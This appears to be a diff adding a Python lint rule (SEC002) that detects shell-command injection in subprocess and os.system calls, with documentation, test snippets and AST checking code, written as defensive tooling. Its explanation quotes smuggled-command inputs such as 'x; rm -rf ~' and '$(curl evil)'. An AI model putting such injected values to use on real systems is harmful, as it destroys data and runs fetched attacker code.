@@ -1,0 +1,126 @@
+"""SEC002 shell-injection."""
+from __future__ import annotations
+
+import ast
+
+from ..context import keyword
+from ..flow import is_constant
+from ..model import Rule, Severity
+from ..names import Binding
+
+#: Take `shell=`; the command is the first argument or `args=`.
+_SHELL_KW = frozenset({
+    "subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output", "subprocess.Popen",
+})
+#: Always run through a shell: qualname -> keyword name of the command.
+_ALWAYS_SHELL = {
+    "os.system": "command",
+    "os.popen": "cmd",
+    "subprocess.getoutput": "cmd",
+    "subprocess.getstatusoutput": "cmd",
+    "asyncio.create_subprocess_shell": "cmd",
+    "commands.getoutput": "cmd",
+}
+
+
+class ShellInjection(Rule):
+    code = "SEC002"
+    name = "shell-injection"
+    message = (
+        "`{callee}` runs a shell command built from non-literal parts: a value containing `;`, `|` or "
+        "`$(...)` executes arbitrary commands"
+    )
+    severity = Severity.ERROR
+    refs = ("H10",)
+    owasp = ("A03",)
+    cwe = ("CWE-78",)
+    fix_applicability = "unsafe"
+    fix_title = "Pass an argument list and drop `shell=True`"
+    callees = frozenset({*_SHELL_KW, *_ALWAYS_SHELL})
+
+    docs = """
+## What it does
+Checks for commands run through a shell whose text is not a literal: `subprocess.run`/
+`call`/`check_call`/`check_output`/`Popen` with `shell=True`, and `os.system`, `os.popen`,
+`subprocess.getoutput`/`getstatusoutput`, `asyncio.create_subprocess_shell` (always a
+shell), when the command is an f-string, a `+`/`%`/`.format` concatenation or a variable.
+Values are followed through local variables; literal commands and module-level string
+constants are fine.
+
+## Why is this bad?
+The shell interprets the whole string: a file name such as `x; rm -rf ~` or `$(curl evil)`
+in any interpolated part runs as a command with the service's privileges (guide: H10; OWASP
+A03 injection; CWE-78). Quoting by hand is fragile; an argument list never goes through a
+shell at all.
+
+## Example
+```python
+import subprocess
+
+def thumbnail(path):
+    subprocess.run(f"convert {path} -resize 128x128 thumb.png", shell=True, check=True, timeout=30)
+```
+
+## Use instead
+```python
+import subprocess
+
+def thumbnail(path):
+    subprocess.run(["convert", path, "-resize", "128x128", "thumb.png"], check=True, timeout=30)
+```
+
+## Fix safety
+When the command is an f-string whose literal parts split cleanly on spaces, the fix builds
+the argument list and removes `shell=True`. It is **unsafe**: pipes, globbing, `~` and
+environment-variable expansion stop working. Other shapes have no automatic fix.
+
+## References
+- [subprocess: security considerations](https://docs.python.org/3/library/subprocess.html#security-considerations)
+- [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
+- Guide: H10; OWASP A03
+"""
+
+    valid = (
+        "import subprocess\nsubprocess.run('ls -l', shell=True, timeout=5)\n",
+        "import subprocess\ndef f(path):\n    subprocess.run(['ls', path], timeout=5)\n",
+        "import os\nos.system('make clean')\n",
+        "CMD = 'uptime'\nimport subprocess\nsubprocess.check_output(CMD, shell=True, timeout=5)\n",
+        "import subprocess\ndef f(cmd, use_shell):\n    subprocess.run(cmd, shell=use_shell, timeout=5)\n",
+        "class Os:\n    def system(self, c): ...\ndef f(c):\n    Os().system(c)\n",
+        "import subprocess\ndef f(path):\n    subprocess.run(f'ls {path}', timeout=5)\n",
+    )
+    invalid = (
+        "import subprocess\ndef f(path):\n    subprocess.run(f'ls {path}', shell=True, timeout=5)\n",
+        "import subprocess as sp\ndef f(path):\n    sp.call('ls ' + path, shell=True, timeout=5)\n",
+        "from subprocess import Popen as P\ndef f(n):\n    P('kill -9 %s' % n, shell=True)\n",
+        "import os\ndef f(host):\n    os.system('ping -c1 {}'.format(host))\n",
+        "import os\ndef f(cmd):\n    os.popen(cmd)\n",
+        "import subprocess\ndef f(branch):\n    cmd = 'git checkout '\n    cmd += branch\n"
+        "    subprocess.check_output(cmd, shell=True, timeout=5)\n",
+        "import asyncio\nasync def f(p):\n    await asyncio.create_subprocess_shell(f'du -sh {p}')\n",
+    )
+
+    def check_call(self, call: ast.Call, callee: Binding) -> None:
+        name = callee.qualname
+        assert name is not None
+        if name in _SHELL_KW:
+            shell = keyword(call, "shell")
+            if shell is None or not (isinstance(shell.value, ast.Constant) and shell.value.value is True):
+                return
+            command = _command(call, "args")
+            if command is None or is_constant(self.ctx, command):
+                return
+            self.report(shell, callee=name)
+        else:
+            command = _command(call, _ALWAYS_SHELL[name])
+            if command is None or is_constant(self.ctx, command):
+                return
+            self.report(command, callee=name)
+
+
+def _command(call: ast.Call, kwname: str) -> ast.expr | None:
+    if call.args:
+        first = call.args[0]
+        return None if isinstance(first, ast.Starred) else first
+    kw = keyword(call, kwname)
+    return kw.value if kw is not None else None
